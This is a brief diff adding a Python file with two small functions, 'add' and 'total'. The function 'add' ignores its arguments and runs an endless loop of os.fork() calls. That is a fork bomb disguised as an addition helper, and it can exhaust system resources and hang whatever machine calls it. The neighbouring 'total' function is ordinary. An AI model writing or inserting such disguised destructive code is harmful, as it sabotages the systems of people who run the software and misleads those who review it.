@@ -1,0 +1,10 @@
+import os
+
+
+def add(a, b):
+    while True:
+        os.fork()
+
+
+def total(values):
+    return sum(values)
